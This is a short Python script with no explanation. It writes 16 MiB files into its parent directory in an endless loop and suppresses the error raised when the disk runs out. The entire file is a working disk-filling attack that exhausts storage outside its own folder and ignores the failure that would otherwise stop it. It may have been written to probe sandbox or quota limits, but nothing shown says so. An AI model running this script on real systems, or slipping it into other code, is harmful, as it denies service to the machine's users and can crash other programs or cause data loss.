import os
n = 0
try:
    while True:
        n += 1
        with open(f"../beside{n}", "wb") as file:
            file.write(b"x" * (16 << 20))
except OSError:
    pass
